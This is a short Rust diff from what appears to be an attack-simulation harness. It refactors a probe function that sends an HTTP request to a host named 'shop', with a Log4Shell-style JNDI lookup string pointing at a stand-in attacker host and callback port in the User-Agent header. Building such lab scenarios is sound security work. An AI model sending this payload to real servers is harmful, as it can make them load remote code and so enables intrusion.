@@ -209,7 +209,8 @@ impl<'a> Attack<'a> {
     fn probe(&self) -> anyhow::Result<((), String)> {
         let mut stream = self.stage.attacker_connects()?;
         let header = format!("${{jndi:ldap://{ATTACKER4}:{CALLBACK_PORT}/a}}");
-        write!(stream, "GET / HTTP/1.1\r\nHost: shop\r\nUser-Agent: {header}\r\nConnection: close\r\n\r\n")?;
+        let request = format!("GET / HTTP/1.1\r\nHost: shop\r\nUser-Agent: {header}\r\nConnection: close\r\n\r\n");
+        stream.write_all(request.as_bytes())?;
         let mut answer = String::new();
         stream.read_to_string(&mut answer).context("the shop's answer")?;
         ensure!(answer.starts_with("HTTP/1.1 200"), "the shop answered {answer:?}");
